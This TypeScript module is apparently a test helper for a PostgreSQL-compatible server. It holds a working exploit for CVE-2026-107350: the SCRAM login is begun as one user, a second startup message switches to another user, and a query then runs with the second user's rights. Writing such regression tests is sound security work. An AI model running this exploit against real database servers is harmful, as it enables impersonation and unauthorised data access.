/** A client that speaks the protocol message by message, in an order that no driver would: for tests of attacks. */
import { createHash, createHmac, pbkdf2Sync, randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';

export interface Door {
  /** an address, or a folder with a socket */
  readonly host: string;
  readonly port: number;
}

interface Message {
  readonly type: string;
  readonly body: Buffer;
}

const ANSWER_WITHIN_MS = 3_000;

class Attacker {
  readonly #socket: Socket;
  #received = Buffer.alloc(0);
  #ended = false;

  constructor({ host, port }: Door) {
    this.#socket = host.startsWith('/') ? connect(`${host}/.s.PGSQL.${port}`) : connect(port, host);
    this.#socket.on('data', (piece: Buffer) => (this.#received = Buffer.concat([this.#received, piece])));
    this.#socket.on('error', () => {});
    this.#socket.on('close', () => (this.#ended = true));
  }

  startup(user: string, database: string): void {
    const settings = Buffer.from(`user\0${user}\0database\0${database}\0\0`);
    const head = Buffer.alloc(8);
    head.writeUInt32BE(settings.length + 8);
    head.writeUInt32BE(0x30000, 4);
    this.#socket.write(Buffer.concat([head, settings]));
  }

  send(type: string, body: Buffer): void {
    const head = Buffer.alloc(5);
    head.write(type);
    head.writeUInt32BE(body.length + 4, 1);
    this.#socket.write(Buffer.concat([head, body]));
  }

  /** The first message of a type; undefined: it was refused, or none came. */
  async answer(...types: readonly string[]): Promise<Message | undefined> {
    const deadline = performance.now() + ANSWER_WITHIN_MS;
    while (performance.now() < deadline) {
      const next = this.#take();
      if (next?.type === 'E') return undefined;
      if (next && types.includes(next.type)) return next;
      if (!next && this.#ended) return undefined;
      if (!next) await new Promise((resolve) => setTimeout(resolve, 5));
    }
    return undefined;
  }

  close(): void {
    this.#socket.destroy();
  }

  #take(): Message | undefined {
    if (this.#received.length < 5) return undefined;
    const length = this.#received.readUInt32BE(1) + 1;
    if (this.#received.length < length) return undefined;
    const [message, rest] = [this.#received.subarray(0, length), this.#received.subarray(length)];
    this.#received = rest;
    return { type: message.toString('latin1', 0, 1), body: message.subarray(5) };
  }
}

/**
 * CVE-2026-107350: the SCRAM exchange is begun under one name, on a database that there is not, and finished after a
 * second StartupMessage under another.
 * @returns the answer to the query, as the second name; undefined when it was refused on the way
 */
export async function becomeAnother(
  door: Door,
  own: { readonly user: string; readonly password: string },
  another: { readonly user: string; readonly database: string },
  query: string,
): Promise<string | undefined> {
  const attacker = new Attacker(door);
  try {
    attacker.startup(own.user, 'there_is_none');
    if (!(await attacker.answer('R'))) return undefined;
    const first = `n=,r=${randomBytes(18).toString('base64')}`;
    const initial = Buffer.from(`SCRAM-SHA-256\0....n,,${first}`);
    initial.writeUInt32BE(Buffer.byteLength(`n,,${first}`), 14);
    attacker.send('p', initial);
    const challenge = await attacker.answer('R');
    if (!challenge) return undefined;
    attacker.startup(another.user, another.database);
    attacker.send('p', finalMessage(first, challenge.body.toString('utf8', 4), own.password));
    if (!(await attacker.answer('Z'))) return undefined;
    attacker.send('Q', Buffer.from(`${query}\0`));
    return (await attacker.answer('D', 'C'))?.body.toString('latin1');
  } finally {
    attacker.close();
  }
}

function finalMessage(first: string, challenge: string, password: string): Buffer {
  const [, nonce = '', salt = '', iterations] = /^r=([^,]+),s=([^,]+),i=(\d+)/.exec(challenge) ?? [];
  const salted = pbkdf2Sync(password, Buffer.from(salt, 'base64'), Number(iterations), 32, 'sha256');
  const hmac = (key: Buffer, text: string) => createHmac('sha256', key).update(text).digest();
  const key = hmac(salted, 'Client Key');
  const bare = `c=biws,r=${nonce}`;
  const signature = hmac(createHash('sha256').update(key).digest(), `${first},${challenge},${bare}`);
  const proof = Buffer.from(key.map((byte, index) => byte ^ (signature[index] ?? 0)));
  return Buffer.from(`${bare},p=${proof.toString('base64')}`);
}
